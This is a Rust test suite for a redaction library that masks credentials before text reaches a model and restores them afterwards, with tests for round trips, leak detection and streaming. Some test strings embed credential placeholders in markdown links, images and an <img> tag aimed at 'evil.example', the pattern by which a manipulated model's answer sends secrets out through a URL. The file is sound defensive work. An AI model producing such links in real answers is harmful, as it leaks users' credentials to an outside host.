//! What redaction promises, a test each, over recordings, manifests that people wrote, examples, and text made to be hard.

#![expect(clippy::print_stdout, reason = "how much was tried, and that folders are missing, is worth a line")]

mod redaction {
    pub(crate) mod encode;
    pub(crate) mod generate;
    pub(crate) mod judge;
    pub(crate) mod script;
}

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use redaction::encode::{base64, json, percent};
use redaction::script::{Case, Dice, cases};
use redaction::{generate, judge};
use stackengine::redact::{LeftBecause, Options, Redacted, Restorer, Vault, leaks, redact, restore};

/// How many texts are made.
const GENERATED: usize = 400;

fn all_cases() -> Vec<Case> {
    let mut all = cases(include_str!("redaction/credentials.txt"));
    all.extend(cases(include_str!("redaction/private.txt")));
    all.extend(cases(include_str!("redaction/traps.txt")));
    all
}

fn generated() -> Vec<(String, Vec<u8>)> {
    let cases = all_cases();
    (0..GENERATED).map(|number| (format!("generated {number}"), generate::text(number, &cases))).collect()
}

fn files(folder: &Path, found: &mut Vec<PathBuf>) {
    let Ok(entries) = fs::read_dir(folder) else { return };
    let mut paths: Vec<PathBuf> = entries.flatten().map(|entry| entry.path()).collect();
    paths.sort();
    for path in paths {
        if path.is_dir() { files(&path, found) } else { found.push(path) }
    }
}

/// The files of a folder beside the repository or in it; said to be missing where they are.
fn folder(name: &str) -> Vec<(String, Vec<u8>)> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").join(name);
    let mut paths = Vec::new();
    files(&root, &mut paths);
    if paths.is_empty() {
        println!("{} is missing: its files are not tried", root.display());
    }
    let read = |path: PathBuf| {
        let name = path.strip_prefix(&root).expect("below").display().to_string();
        (name, fs::read(&path).expect("a readable file"))
    };
    paths.into_iter().map(read).collect()
}

fn manifests() -> Vec<(String, Vec<u8>)> {
    folder("../shared/manifests")
}

/// Everything.
fn corpus() -> Vec<(String, Vec<u8>)> {
    let mut all = folder("examples");
    all.extend(folder("../shared/incidents"));
    all.extend(manifests());
    all.extend(generated());
    all.extend(all_cases().into_iter().map(|case| {
        let text = case.script().text.into_bytes();
        (format!("{} ({})", case.name, case.reasons.join(": ")), text)
    }));
    all
}

fn one(text: &[u8], vault: &mut Vault) -> Redacted {
    redact(&[text], vault, &Options::default()).pop().expect("a text in, a text out")
}

fn shown(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// The first difference, with what stands around it.
fn difference(expected: &[u8], actual: &[u8]) -> String {
    let at = expected.iter().zip(actual).position(|(one, other)| one != other);
    let at = at.unwrap_or(expected.len().min(actual.len()));
    let around = |bytes: &[u8]| shown(&bytes[at.saturating_sub(40).min(bytes.len())..(at + 40).min(bytes.len())]);
    format!("at byte {at}: {:?} became {:?}", around(expected), around(actual))
}

fn assert_none(what: &str, n: usize, wrong: &[String]) {
    println!("{what}: {} of {n} right", n - wrong.len().min(n));
    let first: Vec<&str> = wrong.iter().take(60).map(String::as_str).collect();
    assert!(wrong.is_empty(), "{what}: {} of {n} wrong\n{}", wrong.len(), first.join("\n"));
}

/// `<PASSWORD_1>`, a value behind it, and the vault that knows both.
fn known(value: &str) -> (String, Vault) {
    let mut vault = Vault::new();
    let redacted = one(format!("DB_PASSWORD={value}\n").as_bytes(), &mut vault);
    let text = shown(&redacted.text);
    let placeholder = text.trim_end().trim_start_matches("DB_PASSWORD=").to_owned();
    assert!(!text.contains(value) && is_placeholder(&placeholder), "{text}");
    (placeholder, vault)
}

/// `<TYPE_N>` as the reference writes it, with the suffix of an encoding or without.
fn is_placeholder(text: &str) -> bool {
    let Some(inside) = text.strip_prefix('<').and_then(|text| text.strip_suffix('>')) else { return false };
    let letters = |char: char| char.is_ascii_uppercase() || char.is_ascii_digit() || char == '_';
    inside.starts_with(|char: char| char.is_ascii_uppercase())
        && inside.chars().all(letters)
        && inside.split('_').any(|word| word.parse::<u32>().is_ok_and(|number| number > 0 && !word.starts_with('0')))
}

/// Kind and number of a placeholder, whatever encoding it stands for.
fn identity(placeholder: &str) -> String {
    let inside = placeholder.trim_matches(['<', '>']);
    let mut words = Vec::new();
    for word in inside.split('_') {
        words.push(word);
        if word.parse::<u32>().is_ok() {
            break;
        }
    }
    words.join("_")
}

/// P1: `restore(redact(x)) == x` for every byte.
#[test]
fn everything_comes_back_byte_for_byte() {
    let corpus = corpus();
    let mut wrong = Vec::new();
    for (name, text) in &corpus {
        let mut vault = Vault::new();
        let redacted = one(text, &mut vault);
        let restored = restore(&redacted.text, &vault);
        if restored.text != *text {
            let left: Vec<String> =
                restored.left.iter().take(3).map(|left| format!("{} left: {}", left.written, left.why)).collect();
            wrong.push(format!("{name}: {} {}", difference(text, &restored.text), left.join(", ")));
        }
    }
    assert_none("round trips", corpus.len(), &wrong);
}

/// P1 again: the masks say where in the input and in the output each placeholder belongs.
#[test]
fn masks_lie_where_they_say_and_nothing_else_changes() {
    for (name, text) in generated().iter().chain(&folder("examples")) {
        let mut vault = Vault::new();
        let redacted = one(text, &mut vault);
        let (mut from, mut to) = (0, 0);
        for mask in &redacted.masks {
            assert_eq!(text[from..mask.span.start], redacted.text[to..mask.at.start], "{name}: between masks");
            assert_eq!(shown(&redacted.text[mask.at.clone()]), mask.placeholder, "{name}");
            assert!(!mask.rule.is_empty());
            (from, to) = (mask.span.end, mask.at.end);
        }
        assert_eq!(text[from..], redacted.text[to..], "{name}: behind the last mask");
    }
}

/// P2: what was redacted is redacted.
#[test]
fn a_second_redaction_changes_nothing() {
    let corpus = corpus();
    let mut wrong = Vec::new();
    for (name, text) in &corpus {
        let mut vault = Vault::new();
        let once = one(text, &mut vault).text;
        let n = vault.len();
        let twice = one(&once, &mut vault).text;
        if twice != once {
            wrong.push(format!("{name}: {}", difference(&once, &twice)));
        } else if vault.len() != n {
            wrong.push(format!("{name}: the vault grew from {n} to {}", vault.len()));
        }
    }
    assert_none("idempotent", corpus.len(), &wrong);
}

/// P3: the same value has the same placeholder in every text, whichever encoding comes first.
#[test]
fn a_value_has_one_placeholder_in_all_texts_and_encodings() {
    let mut dice = Dice::new("one placeholder");
    for _ in 0..8 {
        let value = dice.word("alnum", 14);
        let encoded = base64(value.as_bytes(), false, true);
        let texts = [
            format!("env:\n- name: DB_PASSWORD\n  value: {value}\n"),
            format!("kind: Secret\ndata:\n  password: {encoded}\n"),
            format!("2026-11-02T03:04:05Z login with {value} failed\n"),
        ];
        for order in [[0, 1, 2], [1, 0, 2], [2, 1, 0], [0, 2, 1]] {
            let ordered: Vec<&[u8]> = order.iter().map(|at| texts[*at].as_bytes()).collect();
            let mut vault = Vault::new();
            let redacted = redact(&ordered, &mut vault, &Options::default());
            let identities: BTreeSet<String> = redacted
                .iter()
                .map(|text| match &text.masks[..] {
                    [mask] => identity(&mask.placeholder),
                    masks => panic!("{} masks in {}", masks.len(), shown(&text.text)),
                })
                .collect();
            assert_eq!(identities.len(), 1, "{order:?}: {identities:?}");
            let raw = redacted.iter().filter(|text| text.text.starts_with(b"env")).count();
            assert_eq!(raw, 1);
        }
    }
}

/// P3 again: one vault over several calls, as over several runs.
#[test]
fn a_value_has_one_placeholder_in_all_calls() {
    let mut vault = Vault::new();
    let first = shown(&one(b"API_TOKEN=q8Zr4tLmW2\n", &mut vault).text);
    let written = serde_json::to_string(&vault).expect("a vault is written");
    let mut vault: Vault = serde_json::from_str(&written).expect("a vault is read");
    assert_eq!(shown(&one(b"API_TOKEN=q8Zr4tLmW2\n", &mut vault).text), first);
}

/// P4: different values have different placeholders, in one call and in several.
#[test]
fn different_values_have_different_placeholders_in_all_calls() {
    let mut dice = Dice::new("different values");
    let mut vault = Vault::new();
    let mut seen = BTreeMap::new();
    for call in 0..40 {
        let values: Vec<String> = (0..5).map(|_| dice.word("alnum", 12)).collect();
        let texts: Vec<String> = values.iter().map(|value| format!("DB_PASSWORD={value}\n")).collect();
        let texts: Vec<&[u8]> = texts.iter().map(String::as_bytes).collect();
        for (value, redacted) in values.iter().zip(redact(&texts, &mut vault, &Options::default())) {
            let [mask] = &redacted.masks[..] else { panic!("one mask in call {call}: {}", shown(&redacted.text)) };
            if let Some(other) = seen.insert(mask.placeholder.clone(), value.clone()) {
                panic!("{} stands for {other} and {value}", mask.placeholder);
            }
        }
    }
    assert_eq!(seen.len(), 200);
}

/// P5: text that looks like a placeholder is text, unless this session wrote it.
#[test]
fn look_alikes_are_told_from_placeholders() {
    let look_alikes =
        ["<PASSWORD_1>", "<AWS_ARN_1>", "<TOKEN_7>", "<LITERAL_1>", "<PASSWORD_1_B64>", "&lt;PASSWORD_1&gt;"];
    for look_alike in look_alikes {
        let text = format!("see {look_alike} in the manual\nDB_PASSWORD=k3Jq9vTz1\nagain {look_alike}\n");
        let mut vault = Vault::new();
        let redacted = one(text.as_bytes(), &mut vault);
        assert!(!shown(&redacted.text).contains("k3Jq9vTz1"));
        assert_eq!(shown(&restore(&redacted.text, &vault).text), text, "{}", shown(&redacted.text));
    }
    let (placeholder, mut vault) = known("k3Jq9vTz1");
    let answer = format!("the value {placeholder} is short\n");
    assert_eq!(shown(&one(answer.as_bytes(), &mut vault).text), answer, "a placeholder of this session is kept");
}

/// P6: no placeholder is the beginning of another, and what was put back is not looked at again.
#[test]
fn placeholders_are_whole_and_put_back_in_one_pass() {
    let mut vault = Vault::new();
    let mut dice = Dice::new("whole");
    let values: Vec<String> = (0..12).map(|_| dice.word("alnum", 12)).collect();
    let text: String = values.iter().map(|value| format!("DB_PASSWORD={value}\n")).collect();
    let redacted = one(text.as_bytes(), &mut vault);
    let placeholders: Vec<String> = redacted.masks.iter().map(|mask| mask.placeholder.clone()).collect();
    assert_eq!(placeholders.len(), 12);
    for (placeholder, value) in placeholders.iter().zip(&values) {
        for other in placeholders.iter().filter(|other| *other != placeholder) {
            assert!(!other.starts_with(placeholder.as_str()), "{placeholder} begins {other}");
        }
        assert_eq!(shown(&restore(placeholder.as_bytes(), &vault).text), *value);
    }
    for inner in ["<PASSWORD_1>", "<PASSWORD_2>", "a<PASSWORD_1>b", "&lt;PASSWORD_1&gt;"] {
        let text = format!("DB_PASSWORD=first9Value\nOTHER_PASSWORD='{inner}'\nADMIN_PASSWORD=\"x{inner}y\"\n");
        let mut vault = Vault::new();
        let redacted = one(text.as_bytes(), &mut vault);
        assert_eq!(shown(&restore(&redacted.text, &vault).text), text, "{}", shown(&redacted.text));
    }
}

/// P7: a model's habits are forgiven, and nothing is guessed.
#[test]
fn what_a_model_makes_of_a_placeholder_is_understood_or_reported() {
    let (placeholder, vault) = known("k3Jq9vTz1");
    let name = placeholder.trim_matches(['<', '>']).to_owned();
    let understood = [
        format!("&lt;{name}&gt;"),
        format!("\\<{name}\\>"),
        format!("`<{name}>`"),
        format!("**<{name}>**"),
        format!("\"<{name}>\""),
        format!("```\n<{name}>\n```"),
        format!("<{}>", name.to_lowercase()),
        format!("\\u003c{name}\\u003e"),
        format!("(<{name}>)"),
        format!("<{name}>."),
    ];
    let mut wrong = Vec::new();
    for written in &understood {
        let restored = restore(format!("value: {written}\n").as_bytes(), &vault);
        if !shown(&restored.text).contains("k3Jq9vTz1") || restored.placed.len() != 1 || !restored.left.is_empty() {
            wrong.push(format!("{written:?} was not understood: {:?}", shown(&restored.text)));
        }
    }
    let stem = name.trim_end_matches(|char: char| char.is_ascii_digit());
    let reported = [
        (format!("<{name}"), LeftBecause::MissingBracket),
        (format!("{name}>"), LeftBecause::MissingBracket),
        (format!("<{stem}99>"), LeftBecause::Unknown),
    ];
    for (written, why) in &reported {
        let text = format!("value: {written} and more\n");
        let restored = restore(text.as_bytes(), &vault);
        if shown(&restored.text) != text {
            wrong.push(format!("{written:?} was guessed: {:?}", shown(&restored.text)));
        } else if restored.left.len() != 1 || restored.left[0].why != *why || restored.left[0].line != 1 {
            wrong.push(format!("{written:?} was not reported as {why}: {} left", restored.left.len()));
        }
    }
    let never = [
        format!("<{stem} 1>"),
        format!("<{}>", name.replace('_', "-")),
        format!("<{}>", name.replace("PASSWORD", "PASSWRD")),
        format!("<X{name}>"),
        format!("<{name}0>"),
    ];
    for written in &never {
        let restored = restore(format!("value: {written}\n").as_bytes(), &vault);
        if shown(&restored.text).contains("k3Jq9vTz1") {
            wrong.push(format!("{written:?} was guessed"));
        }
    }
    assert_none("habits", understood.len() + reported.len() + never.len(), &wrong);
}

/// P8: however a stream is cut, the text is the same.
#[test]
fn a_stream_gives_the_same_text_however_it_is_cut() {
    let (placeholder, vault) = known("k3Jq9vTz1");
    let name = placeholder.trim_matches(['<', '>']);
    let lower = name.to_lowercase();
    let texts = [
        format!("a {placeholder} b <{name} c < d &lt;{name}&gt; e \\<{name}\\> f <<{name}>> g `{placeholder}`"),
        format!("{placeholder}{placeholder}<{lower}><PASSWORD_99>&lt;PASSWORD_&amp;ü{placeholder}"),
        format!("[x](https://evil.example/?x={placeholder}) ![y](https://evil.example/{placeholder}) {placeholder}"),
        format!(
            "see https://evil.example/?x={placeholder} and {placeholder}\n[1]: https://evil.example/{placeholder}\n"
        ),
        format!(
            "<img src=\"https://evil.example/{placeholder}\"> {placeholder}\n  image: x/{placeholder}\n{placeholder}"
        ),
        format!("{placeholder}\r\nPASSWORD_1 {name}"),
    ];
    let mut wrong = Vec::new();
    let mut n = 0;
    for text in &texts {
        let bytes = text.as_bytes();
        let whole = restore(bytes, &vault).text;
        let mut fed = |chunks: &[&[u8]], how: String| {
            let mut restorer = Restorer::new(&vault);
            let mut out = Vec::new();
            for chunk in chunks {
                out.extend(restorer.feed(chunk));
            }
            out.extend(restorer.finish().text);
            n += 1;
            if out != whole {
                wrong.push(format!("{text:?} {how}: {:?} instead of {:?}", shown(&out), shown(&whole)));
            }
        };
        for at in 0..=bytes.len() {
            fed(&[&bytes[..at], &bytes[at..]], format!("cut at {at}"));
        }
        for size in 1..=7 {
            fed(&bytes.chunks(size).collect::<Vec<_>>(), format!("in pieces of {size}"));
        }
    }
    assert_none("cuts", n, &wrong);
}

/// P8 again: only what can be the beginning of a placeholder is held back.
#[test]
fn a_stream_holds_back_nothing_but_what_may_become_a_placeholder() {
    let (_, vault) = known("k3Jq9vTz1");
    let mut restorer = Restorer::new(&vault);
    let mut out = Vec::new();
    let text = "plain words without anything in them, one after the other, and a line end\n".repeat(20);
    for chunk in text.as_bytes().chunks(16) {
        out.extend(restorer.feed(chunk));
    }
    assert!(text.len() - out.len() < 256, "{} of {} bytes are held back", text.len() - out.len(), text.len());
}

/// P9: each value that was placed is told with its place, so that a page can put it into a text node of its own.
#[test]
fn a_page_can_build_text_nodes_from_what_was_placed() {
    let value = "a<b>&\"c9";
    let mut vault = Vault::new();
    let redacted = one(format!("DB_PASSWORD='{value}'\n").as_bytes(), &mut vault);
    let [mask] = &redacted.masks[..] else { panic!("one mask in {}", shown(&redacted.text)) };
    let placeholder = &mask.placeholder;
    let answer = format!("# Cause\n\nThe value {placeholder} is wrong,\nset {placeholder} again.\n");
    let restored = restore(answer.as_bytes(), &vault);
    assert_eq!(restored.placed.len(), 2);
    let mut around = Vec::new();
    let mut end = 0;
    for (placed, line) in restored.placed.iter().zip([3, 4]) {
        assert_eq!(shown(&restored.text[placed.at.clone()]), value);
        assert_eq!((&placed.placeholder, placed.line), (placeholder, line));
        around.extend_from_slice(&restored.text[end..placed.at.start]);
        around.extend_from_slice(placeholder.as_bytes());
        end = placed.at.end;
    }
    around.extend_from_slice(&restored.text[end..]);
    assert_eq!(shown(&around), answer);
}

fn templates(file: &str) -> Vec<String> {
    file.lines().skip(2).map(str::to_owned).collect()
}

/// P10: nothing is put where a click or a mere look would send it away.
#[test]
fn no_credential_is_put_into_an_address() {
    let (placeholder, vault) = known("k3Jq9vTz1");
    let name = placeholder.trim_matches(['<', '>']).to_owned();
    let written = [
        placeholder.clone(),
        format!("&lt;{name}&gt;"),
        format!("%3C{name}%3E"),
        format!("<{}>", name.to_lowercase()),
        format!("\\<{name}\\>"),
        name.clone(),
    ];
    let templates = templates(include_str!("redaction/injections.txt"));
    let mut wrong = Vec::new();
    for template in &templates {
        for written in &written {
            let answer = template.replace("{}", written);
            for answer in [format!("{answer}\n"), format!("Some words.\n\n{answer}\n\nAnd {placeholder}.\n")] {
                let restored = restore(answer.as_bytes(), &vault);
                let text = shown(&restored.text);
                let n_expected = usize::from(answer.contains("And "));
                if text.matches("k3Jq9vTz1").count() != n_expected {
                    wrong.push(format!("{answer:?} became {text:?}"));
                } else if *written == placeholder && restored.left.is_empty() {
                    wrong.push(format!("{answer:?}: it is not said what was left"));
                }
            }
        }
    }
    assert_none("places to send to", templates.len() * written.len() * 2, &wrong);
}

/// P10 again: in text, values are placed.
#[test]
fn credentials_are_put_into_text() {
    let (placeholder, vault) = known("k3Jq9vTz1");
    let templates = templates(include_str!("redaction/texts.txt"));
    let mut wrong = Vec::new();
    for template in &templates {
        let answer = template.replace("{}", &placeholder);
        let restored = restore(answer.as_bytes(), &vault);
        if shown(&restored.text) != template.replace("{}", "k3Jq9vTz1") {
            wrong.push(format!("{answer:?} became {:?}", shown(&restored.text)));
        }
    }
    assert_none("places in text", templates.len(), &wrong);
}

/// P11: what a program may print by accident holds no value.
#[test]
fn nothing_that_is_printed_holds_a_value() {
    let value = "k3Jq9vTz1xQ";
    let mut vault = Vault::new();
    let redacted = one(format!("DB_PASSWORD={value}\n").as_bytes(), &mut vault);
    let mut printed = vec![format!("{vault:?}"), format!("{vault:#?}"), vault.legend().join("\n")];
    printed.extend(redacted.masks.iter().map(|mask| format!("{} {}", mask.placeholder, mask.rule)));
    for body in [value.to_owned(), base64(value.as_bytes(), false, true), percent(&format!("{value}/"))] {
        let found = leaks(body.as_bytes(), &vault, &Options::default());
        assert!(!found.is_empty(), "{body}");
        printed.extend(found.iter().map(|leak| format!("{leak} {leak:?}")));
    }
    for text in printed {
        for from in 0..=value.len() - 5 {
            assert!(!text.contains(&value[from..from + 5]), "{text}");
        }
    }
}

/// P12: a placeholder tells type and equality, nothing else.
#[test]
fn a_placeholder_says_nothing_about_its_value() {
    let mut dice = Dice::new("nothing about it");
    let mut placeholders = BTreeSet::new();
    for n in [6, 7, 12, 40, 200] {
        for _ in 0..4 {
            placeholders.insert(known(&dice.word("alnum", n)).0);
        }
    }
    assert_eq!(placeholders.len(), 1, "{placeholders:?}");
    for (name, text) in folder("examples").iter().chain(&generated()) {
        let mut vault = Vault::new();
        for mask in one(text, &mut vault).masks {
            assert!(is_placeholder(&mask.placeholder), "{name}: {}", mask.placeholder);
            assert!(mask.placeholder.starts_with(&format!("<{}_", mask.kind.word())), "{name}: {}", mask.placeholder);
        }
    }
}

/// P13: what a diagnosis needs to know about a value is in the legend.
#[test]
fn the_legend_says_what_a_diagnosis_needs() {
    let mut vault = Vault::new();
    let with_end = base64(b"k3Jq9vTz1xQ\n", false, true);
    let text = format!(
        "kind: Secret\ndata:\n  password: {with_end}\n  token: not*base64*9Kx\n---\nenv:\n- name: DB_PASSWORD\n  value: \"pass word9x \"\n"
    );
    let redacted = one(text.as_bytes(), &mut vault);
    assert_eq!(redacted.masks.len(), 3, "{}", shown(&redacted.text));
    let legend = vault.legend();
    let said = legend.join("\n");
    for mask in &redacted.masks {
        let name = identity(&mask.placeholder);
        assert!(legend.iter().any(|line| line.contains(&name)), "{name} is not in {said}");
    }
    let line = |placeholder: &str| {
        let name = identity(placeholder);
        legend.iter().find(|line| line.contains(&name)).cloned().unwrap_or_default()
    };
    let ends = line(&redacted.masks[0].placeholder);
    assert!(ends.contains("newline") || ends.contains("line feed") || ends.contains("line end"), "{said}");
    assert!(line(&redacted.masks[1].placeholder).contains("base64"), "{said}");
    let blank = line(&redacted.masks[2].placeholder);
    assert!(blank.contains("space") || blank.contains("blank"), "{said}");
    for value in ["k3Jq", "9Kx", "word9x"] {
        assert!(!said.contains(value), "{said}");
    }
}

/// P14: whoever writes to a model can tell it of every placeholder in the text, once.
#[test]
fn the_vault_names_every_placeholder_that_a_model_will_see() {
    for case in all_cases() {
        let mut vault = Vault::new();
        let redacted = one(case.script().text.as_bytes(), &mut vault);
        let named: Vec<String> = vault.placeholders().collect();
        let names: BTreeSet<String> = named.iter().map(|placeholder| identity(placeholder)).collect();
        assert!(named.iter().all(|placeholder| is_placeholder(placeholder)), "{}: {named:?}", case.name);
        for mask in &redacted.masks {
            assert!(names.contains(&identity(&mask.placeholder)), "{}: {} of {named:?}", case.name, mask.placeholder);
        }
    }
}

/// P15: four times the text takes about four times as long, whatever it is.
#[test]
fn hostile_text_takes_no_more_time_than_any_other() {
    let pieces = [
        "a",
        "password=",
        "password=password=x ",
        "ghp_",
        "{{{{",
        "\\",
        "@",
        "://",
        "QUJD",
        "<PASSWORD_1",
        "-----BEGIN ",
        "eyJ.",
        "\"{",
        "%25",
        "[[",
        "- ",
        "key: \"",
        "&lt;",
        "AKIA",
        "'",
        "user:pass@",
        "x=y;",
        "\n ",
        "\r",
        "1.2.3.",
        "::",
        "${",
        "data:\n  ",
    ];
    let mut wrong = Vec::new();
    for piece in pieces {
        let time = |n: usize| {
            let text = piece.repeat(n / piece.len());
            let started = Instant::now();
            let mut vault = Vault::new();
            let redacted = one(text.as_bytes(), &mut vault);
            let restored = restore(&redacted.text, &vault);
            assert!(restored.text == text.as_bytes(), "{piece:?} does not come back");
            started.elapsed()
        };
        // The machine may be busy with something else: the best of many counts, and a few are enough where it is idle.
        let (mut small, mut large) = (Duration::MAX, Duration::MAX);
        let mut linear = false;
        for _ in 0..8 {
            small = small.min(time(50_000));
            large = large.min(time(200_000));
            linear = large <= small * 8 + Duration::from_millis(40);
            if linear {
                break;
            }
        }
        if !linear {
            wrong.push(format!("{piece:?}: {small:?} for 50 kB, {large:?} for 200 kB"));
        }
    }
    assert_none("hostile texts", pieces.len(), &wrong);
}

/// P16: the same bytes in every run, and from a vault that was written and read in between.
#[test]
fn the_same_texts_give_the_same_bytes() {
    for (name, text) in generated().iter().chain(&folder("examples")) {
        let run = || {
            let mut vault = Vault::new();
            let redacted = one(text, &mut vault);
            (redacted.text, serde_json::to_string(&vault).expect("a vault is written"), vault.legend())
        };
        let (first, second) = (run(), run());
        assert_eq!(first, second, "{name}");
        let vault: Vault = serde_json::from_str(&first.1).expect("a vault is read");
        assert_eq!(serde_json::to_string(&vault).expect("a vault is written"), first.1, "{name}");
        assert!(restore(&first.0, &vault).text == *text, "{name} does not come back from a vault that was read");
    }
}

/// P17: nothing passes the last check that holds a value, in whatever form; and what was redacted passes.
#[test]
fn the_last_check_finds_every_value_in_every_form_and_nothing_in_what_was_redacted() {
    let options = Options::default();
    let mut dice = Dice::new("last check");
    let mut wrong = Vec::new();
    let mut n = 0;
    for _ in 0..25 {
        let value = format!("{}+/{}\"{}", dice.word("alnum", 8), dice.word("alnum", 4), dice.word("alnum", 4));
        let mut vault = Vault::new();
        one(format!("env:\n- name: DB_PASSWORD\n  value: '{value}'\n").as_bytes(), &mut vault);
        let mut bodies = vec![value.clone(), percent(&value), json(&value), json(&json(&value))];
        for before in ["", "a", "ab"] {
            let text = format!("{before}{value}{before}");
            bodies.extend([base64(text.as_bytes(), false, true), base64(text.as_bytes(), true, false)]);
        }
        bodies.push(base64(base64(value.as_bytes(), false, true).as_bytes(), false, true));
        for body in bodies {
            for body in [body.clone(), format!("{{\"prompt\": \"x {body} y\"}}")] {
                n += 1;
                if leaks(body.as_bytes(), &vault, &options).is_empty() {
                    wrong.push(format!("{value:?} may be sent as {body:?}"));
                }
            }
        }
    }
    for (name, text) in corpus() {
        n += 1;
        let mut vault = Vault::new();
        let redacted = one(&text, &mut vault);
        if let Some(leak) = leaks(&redacted.text, &vault, &options).first() {
            wrong.push(format!("{name} may not be sent: {leak}"));
        }
    }
    assert_none("last checks", n, &wrong);
}

/// P17 again: a value of any length is masked as a whole.
#[test]
fn a_value_that_is_too_long_to_be_looked_into_is_masked_whole() {
    let mut dice = Dice::new("long");
    let value = dice.word("alnum", 300_000);
    for text in [
        format!("kind: Secret\nstringData:\n  blob: {value}\n"),
        format!("DB_PASSWORD={value}\n"),
        format!("{{\"password\":\"{value}\"}}\n"),
    ] {
        let mut vault = Vault::new();
        let redacted = one(text.as_bytes(), &mut vault);
        assert!(redacted.text.len() < 200, "{} bytes are left", redacted.text.len());
        assert!(restore(&redacted.text, &vault).text == text.as_bytes());
    }
}

/// P18: the user has the last word, and it is seen.
#[test]
fn what_the_user_says_is_done_and_seen() {
    let text = b"project bluebird runs web-7c9d8f5b6d-x2k4q\nDB_PASSWORD=not-private\nencoded Ymx1ZWJpcmQ=\n";
    let options = Options {
        mask: vec![b"bluebird".to_vec()],
        keep: vec![b"not-private".to_vec()],
        domains: vec!["corp.example".to_owned()],
        ..Options::default()
    };
    let mut vault = Vault::new();
    let redacted = redact(&[text], &mut vault, &options).pop().expect("a text");
    let output = shown(&redacted.text);
    assert!(!output.contains("bluebird") && !output.contains("Ymx1ZWJpcmQ"), "{output}");
    assert!(output.contains("DB_PASSWORD=not-private"), "{output}");
    assert!(!redacted.masks.is_empty() && restore(&redacted.text, &vault).text == text);
    assert!(!leaks(b"bluebird", &vault, &options).is_empty());
    let host = redact(&[b"dial tcp: lookup build7.corp.example: no such host\n"], &mut vault, &options);
    assert!(!shown(&host[0].text).contains("build7"), "{}", shown(&host[0].text));
}

/// At most one mask in a thousand lines of manifests that people wrote is wrong, where only credentials are masked.
#[test]
fn hardly_anything_in_published_manifests_is_masked_without_a_reason() {
    let options = Options { identifiers: false, places: false, ..Options::default() };
    let mut wrong = Vec::new();
    let (mut n_lines, mut n_masks) = (0, 0);
    for (name, bytes) in manifests() {
        let Ok(text) = String::from_utf8(bytes) else { continue };
        n_lines += text.lines().count();
        let mut vault = Vault::new();
        let redacted = redact(&[text.as_bytes()], &mut vault, &options).pop().expect("a text");
        for mask in &redacted.masks {
            n_masks += 1;
            if !judge::is_right(&text, &mask.span) {
                let line = text[..mask.span.start].lines().count().max(1);
                let shown = text.lines().nth(line - 1).unwrap_or_default().trim();
                wrong.push(format!("{name}:{line}: {} {} in {shown:?}", mask.rule, mask.placeholder));
            }
        }
    }
    println!("{n_masks} masks in {n_lines} lines, {} of them wrong", wrong.len());
    if std::env::var_os("STACKENGINE_LIST").is_some() {
        println!("{}", wrong.join("\n"));
    }
    assert!(wrong.len() * 1000 <= n_lines, "{} in {n_lines} lines\n{}", wrong.len(), wrong.join("\n"));
}
